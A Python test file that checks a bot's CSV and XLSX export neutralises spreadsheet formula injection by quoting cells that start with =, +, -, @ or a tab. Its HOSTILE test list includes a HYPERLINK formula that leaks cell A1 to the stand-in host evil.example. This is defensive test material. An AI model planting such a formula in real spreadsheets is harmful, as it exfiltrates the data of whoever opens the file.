"""Exports never hand staff a formula: the shared guard for CSV and XLSX cells."""

import csv
import io

from bot.core.spreadsheet_cells import append_row, read_cell, write_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+86 138", "-1+1", "@SUM(A1)", "\t=1", "普通文字", 42]


def test_csv_cells_that_would_run_as_formulas_are_guarded_and_read_back_unchanged():
    out = io.StringIO()
    write_csv(out, [HOSTILE])
    cells = next(csv.reader(io.StringIO(out.getvalue())))
    assert all(c.startswith("'") for c in cells[:5]) and cells[5:] == ["普通文字", "42"]
    assert [read_cell(c) for c in cells[:6]] == HOSTILE[:6]
    assert read_cell("'不是公式") == "'不是公式"  # an apostrophe the author wrote stays


def test_xlsx_cells_stay_text():
    from openpyxl import Workbook, load_workbook

    book = Workbook()
    append_row(book.active, HOSTILE)
    out = io.BytesIO()
    book.save(out)
    row = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert [c.data_type for c in row[:6]] == ["s"] * 6 and row[0].value == HOSTILE[0]
